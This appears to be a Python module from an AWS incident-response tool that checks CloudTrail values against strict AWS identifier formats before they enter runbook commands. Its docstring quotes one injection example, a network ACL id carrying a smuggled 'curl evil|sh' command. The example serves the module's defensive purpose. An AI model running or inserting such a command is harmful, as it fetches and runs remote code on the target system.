"""Strict formats of the values that may enter a runbook command.

CloudTrail values are attacker-influenced: a failed call's ``requestParameters`` are kept as the
caller sent them, so ``networkAclId`` can be ``acl-1 --region x; curl evil|sh``. A value enters an
executable line (AWS CLI, boto3) only when it matches the strict AWS format of its kind, declared
per field in the mapping file (``event.formats``); otherwise the line shows a placeholder and
says which value was malformed. Valid values are shell-quoted as well (a no-op for real ids).
"""

from __future__ import annotations

import re
from collections.abc import Callable
from functools import lru_cache

from connector.aws_region import REGION_PATTERN

_HEX_ID = r"[0-9a-f]{8}(?:[0-9a-f]{9})?"

#: kind → full-match pattern. Names follow the AWS resource they identify.
VALUE_FORMATS: dict[str, re.Pattern[str]] = {
    name: re.compile(pattern)
    for name, pattern in {
        "network-acl-id": rf"acl-{_HEX_ID}",
        "nat-gateway-id": rf"nat-{_HEX_ID}",
        "internet-gateway-id": rf"igw-{_HEX_ID}",
        "network-interface-id": rf"eni-{_HEX_ID}",
        "vpc-peering-connection-id": rf"pcx-{_HEX_ID}",
        "vpc-id": rf"vpc-{_HEX_ID}",
        "subnet-id": rf"subnet-{_HEX_ID}",
        "vpc-endpoint-id": rf"vpce-{_HEX_ID}",
        "allocation-id": rf"eipalloc-{_HEX_ID}",
        "account-id": r"[0-9]{12}",
        "region": REGION_PATTERN,
        "partition": r"aws(?:-cn|-us-gov|-iso(?:-[a-z])?)?",
        "rule-number": r"(?:[1-9][0-9]{0,3}|[12][0-9]{4}|3[01][0-9]{3}|32[0-6][0-9]{2}|327[0-5][0-9]|3276[0-6])",
        "cli-direction": r"--(?:egress|ingress)",
        "access-key-id": r"(?:AKIA|ASIA)[A-Z0-9]{16}",
        "iam-name": r"[\w+=,.@-]{1,64}",
        "iam-principal-arn": r"arn:aws(?:-cn|-us-gov)?:(?:iam|sts)::[0-9]{12}:(?:root|(?:user|role|assumed-role)/[\w+=,.@/-]{1,512})",
        "event-name": r"[A-Z][A-Za-z0-9]{1,127}",
        "event-id": r"[0-9a-fA-F-]{36}",
        "timestamp": r"[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9]{2}:[0-9]{2}:[0-9]{2}Z",
        # Values read from AWS by the enrichment (connector/enrich/): checked like the event's.
        "security-group-id": rf"sg-{_HEX_ID}",
        "instance-id": rf"i-{_HEX_ID}",
        "route-table-id": rf"rtb-{_HEX_ID}",
        "ipv4": r"(?:(?:25[0-5]|2[0-4][0-9]|1?[0-9]?[0-9])\.){3}(?:25[0-5]|2[0-4][0-9]|1?[0-9]?[0-9])",
        "ipv4-cidr": r"(?:(?:25[0-5]|2[0-4][0-9]|1?[0-9]?[0-9])\.){3}(?:25[0-5]|2[0-4][0-9]|1?[0-9]?[0-9])/(?:3[0-2]|[12]?[0-9])",
        "ipv6-cidr": r"[0-9a-fA-F:]{2,39}/(?:12[0-8]|1[01][0-9]|[1-9]?[0-9])",
        "ip-protocol": r"-1|[0-9]{1,3}",
        "port": r"[0-9]{1,5}",
        "icmp-code": r"-1|[0-9]{1,3}",
        "rule-action": r"allow|deny",
        "connectivity-type": r"public|private",
        "boolean": r"true|false",
        "description": r"[\w .,:/=+@()#-]{0,255}",
    }.items()
}

#: Formats of the values every mapping gets (see engine.extract).
COMMON_FORMATS: dict[str, str] = {
    "region": "region",
    "account": "account-id",
    "partition": "partition",
    "eventID": "event-id",
    "eventTime": "timestamp",
    "eventName": "event-name",
    "principalArn": "iam-principal-arn",
    "roleArn": "iam-principal-arn",
    "accessKeyId": "access-key-id",
    "userName": "iam-name",
}


#: ``<kind>-list``: several values of one kind separated by single spaces (security groups of an
#: interface, the subnets of a route table); each must match and each is quoted on its own.
LIST_SUFFIX = "-list"


@lru_cache(maxsize=1024)
def list_kind(kind: str) -> str | None:
    """The item kind of a ``<kind>-list`` format, else None."""
    return kind[: -len(LIST_SUFFIX)] if kind.endswith(LIST_SUFFIX) and kind[: -len(LIST_SUFFIX)] in VALUE_FORMATS else None


def known_format(kind: str) -> bool:
    return kind in VALUE_FORMATS or list_kind(kind) is not None


def matches(kind: str, value: str) -> bool:
    """True when ``value`` is a well-formed ``kind`` (an unknown kind never matches)."""
    return _matcher(kind)(value)


def _never(value: str) -> bool:
    return False


@lru_cache(maxsize=1024)
def _matcher(kind: str) -> Callable[[str], bool]:
    """``matches`` for one kind, decided once per kind (kinds come from the mapping files)."""
    item = list_kind(kind)
    if item is not None:
        each = _matcher(item)
        return lambda value: bool(value) and all(map(each, value.split(" ")))
    pattern = VALUE_FORMATS.get(kind)
    if pattern is None:
        return _never
    full = pattern.fullmatch
    return lambda value: full(value) is not None


@lru_cache(maxsize=4096)
def placeholder(name: str) -> str:
    """``networkAclId`` → ``NETWORK_ACL_ID``: inert in a shell and in a Python string literal."""
    return re.sub(r"(?<=[a-z0-9])(?=[A-Z])", "_", name).upper()
